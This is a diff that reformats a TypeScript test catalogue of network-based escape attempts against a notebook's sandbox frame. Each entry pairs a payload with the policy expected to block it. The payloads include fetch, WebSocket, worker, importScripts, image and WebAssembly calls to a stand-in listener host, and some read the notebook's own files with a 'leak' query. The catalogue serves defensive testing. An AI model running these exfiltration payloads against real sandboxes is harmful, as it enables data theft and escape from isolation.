@@ -4,7 +4,8 @@ import type { Attack, AttackClass } from '../attack.ts';
 const POLICY = 'The policy of the sandbox frame allows no connection to anywhere.';
 const NO_SCRIPT = 'The policy of the sandbox frame allows no script from an address.';
 const NO_WORKER = 'The policy of the sandbox frame holds in every worker that is made in it.';
-const NO_EVAL = 'The policy of the sandbox frame allows no text to be evaluated, and no connection.';
+const NO_EVAL =
+  'The policy of the sandbox frame allows no text to be evaluated, and no connection.';
 const NOT_THERE = 'A worker has no such thing.';
 const REFUSED_IMPORT = 'A snippet imports the modules of its book and nothing else.';
 const NOT_MORE = 'What runs there has no more rights than the snippet.';
@@ -38,13 +39,21 @@ export const network: AttackClass = {
       `fetch('http://LISTENER/', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })`,
     ),
     way('fetch of a request', POLICY, `fetch(new Request('http://LISTENER/', { method: 'PUT' }))`),
-    way('fetch of a host that is another site', POLICY, `fetch('http://localhost:' + 'LISTENER'.split(':')[1])`),
+    way(
+      'fetch of a host that is another site',
+      POLICY,
+      `fetch('http://localhost:' + 'LISTENER'.split(':')[1])`,
+    ),
     way(
       'fetch of the book itself',
       POLICY,
       `(await fetch('SITE/notebook/snippets.json?leak')).text().then(${READ})`,
     ),
-    way('fetch of a path', POLICY, `(await fetch('/notebook/snippets.json?leak')).text().then(${READ})`),
+    way(
+      'fetch of a path',
+      POLICY,
+      `(await fetch('/notebook/snippets.json?leak')).text().then(${READ})`,
+    ),
     way('fetch of data', POLICY, `(await fetch('data:text/plain,x')).text().then(() => 'read')`),
     way(
       'fetch taken from the prototype of the global object',
@@ -84,7 +93,11 @@ export const network: AttackClass = {
     way('WebSocket', POLICY, `new WebSocket('ws://LISTENER/')`),
     way('WebSocket with encryption', POLICY, `new WebSocket('wss://LISTENER/')`),
     way('WebSocket to the book’s host', POLICY, `new WebSocket('SITE/leak'.replace('http', 'ws'))`),
-    way('WebSocketStream', POLICY, `new (globalThis as any).WebSocketStream('ws://LISTENER/').opened`),
+    way(
+      'WebSocketStream',
+      POLICY,
+      `new (globalThis as any).WebSocketStream('ws://LISTENER/').opened`,
+    ),
     way('EventSource', POLICY, `new EventSource('http://LISTENER/')`),
     way('WebTransport', POLICY, `new WebTransport('https://LISTENER/').ready`),
     way(
@@ -119,7 +132,11 @@ export const network: AttackClass = {
       NOT_MORE,
       `import(URL.createObjectURL(new Blob(['await fetch("http://LISTENER/")'], { type: 'text/javascript' })))`,
     ),
-    way('import() of JSON', NO_SCRIPT, `import('http://LISTENER/x.json', { with: { type: 'json' } } as any)`),
+    way(
+      'import() of JSON',
+      NO_SCRIPT,
+      `import('http://LISTENER/x.json', { with: { type: 'json' } } as any)`,
+    ),
     {
       name: 'import of an address',
       stoppedBy: REFUSED_IMPORT,
@@ -147,11 +164,16 @@ export const network: AttackClass = {
     },
     {
       name: 'a source map at an address',
-      stoppedBy: 'No tool that reads source maps looks at the snippet, and the policy allows no connection.',
+      stoppedBy:
+        'No tool that reads source maps looks at the snippet, and the policy allows no connection.',
       code: `export const x = 1;\n//# sourceMappingURL=http://LISTENER/x.map`,
     },
     way('importScripts', NO_SCRIPT, `(globalThis as any).importScripts('http://LISTENER/x.js')`),
-    way('importScripts of the book’s files', NO_SCRIPT, `(globalThis as any).importScripts('SITE/notebook/kernel.js?leak')`),
+    way(
+      'importScripts of the book’s files',
+      NO_SCRIPT,
+      `(globalThis as any).importScripts('SITE/notebook/kernel.js?leak')`,
+    ),
     way(
       'importScripts of data',
       NO_SCRIPT,
@@ -169,7 +191,11 @@ export const network: AttackClass = {
       NO_WORKER,
       `new Worker(URL.createObjectURL(new Blob(['fetch("http://LISTENER/")'])))`,
     ),
-    way('a worker from data', NO_WORKER, `new Worker('data:text/javascript,fetch("http://LISTENER/")')`),
+    way(
+      'a worker from data',
+      NO_WORKER,
+      `new Worker('data:text/javascript,fetch("http://LISTENER/")')`,
+    ),
     way(
       'a worker that is a module',
       NO_WORKER,
@@ -182,7 +208,11 @@ export const network: AttackClass = {
         'new Worker(URL.createObjectURL(new Blob([\\'new WebSocket("ws://LISTENER/")\\'])))',
       ])))`,
     ),
-    way('a shared worker', NOT_THERE, `new SharedWorker('data:text/javascript,fetch("http://LISTENER/")')`),
+    way(
+      'a shared worker',
+      NOT_THERE,
+      `new SharedWorker('data:text/javascript,fetch("http://LISTENER/")')`,
+    ),
     way(
       'a service worker',
       NOT_THERE,
@@ -201,7 +231,11 @@ export const network: AttackClass = {
       `{ const context = new OffscreenCanvas(9, 9).getContext('2d') as any;
     context.filter = 'url(http://LISTENER/x.svg#f)'; context.font = '9px x'; context.fillText('x', 1, 1); }`,
     ),
-    way('an image', NOT_THERE, `{ const image = new Image(); image.src = 'http://LISTENER/x.png'; }`),
+    way(
+      'an image',
+      NOT_THERE,
+      `{ const image = new Image(); image.src = 'http://LISTENER/x.png'; }`,
+    ),
     way('a sound', NOT_THERE, `new Audio('http://LISTENER/x.mp3').play()`),
     way(
       'WebAssembly from an address',
@@ -232,10 +266,26 @@ export const network: AttackClass = {
       `new (globalThis as any).ShadowRealm().evaluate('fetch("http://LISTENER/")')`,
     ),
     way('the cache', POLICY, `(await caches.open('x')).add('http://LISTENER/')`),
-    way('a notification with a picture', NOT_THERE, `new Notification('x', { icon: 'http://LISTENER/x.png' })`),
-    way('a push subscription', NOT_THERE, `(globalThis as any).registration.pushManager.subscribe()`),
-    way('a download in the background', NOT_THERE, `(globalThis as any).registration.backgroundFetch.fetch('x', 'http://LISTENER/')`),
-    way('going to an address', NOT_THERE, `{ (globalThis as any).location = 'http://LISTENER/'; (globalThis as any).open('http://LISTENER/'); }`),
+    way(
+      'a notification with a picture',
+      NOT_THERE,
+      `new Notification('x', { icon: 'http://LISTENER/x.png' })`,
+    ),
+    way(
+      'a push subscription',
+      NOT_THERE,
+      `(globalThis as any).registration.pushManager.subscribe()`,
+    ),
+    way(
+      'a download in the background',
+      NOT_THERE,
+      `(globalThis as any).registration.backgroundFetch.fetch('x', 'http://LISTENER/')`,
+    ),
+    way(
+      'going to an address',
+      NOT_THERE,
+      `{ (globalThis as any).location = 'http://LISTENER/'; (globalThis as any).open('http://LISTENER/'); }`,
+    ),
     way('a USB device', NOT_THERE, `(navigator as any).usb.getDevices().then(() => 'BREACH')`),
     way('a serial port', NOT_THERE, `(navigator as any).serial.getPorts().then(() => 'BREACH')`),
     way('a HID device', NOT_THERE, `(navigator as any).hid.getDevices().then(() => 'BREACH')`),
